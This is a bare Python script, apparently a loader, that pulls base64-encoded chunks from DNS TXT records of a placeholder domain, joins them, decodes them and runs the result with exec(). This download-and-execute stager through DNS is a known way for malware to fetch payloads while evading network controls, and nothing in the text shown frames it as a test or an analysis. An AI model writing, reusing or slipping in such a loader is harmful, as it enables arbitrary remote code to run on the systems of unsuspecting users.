import base64
import dns.resolver
parts = []
for i in range(3):
    for a in dns.resolver.resolve("%d.p.example.invalid" % i, "TXT"):
        parts.append(b"".join(a.strings))
exec(base64.b64decode(b"".join(parts)))
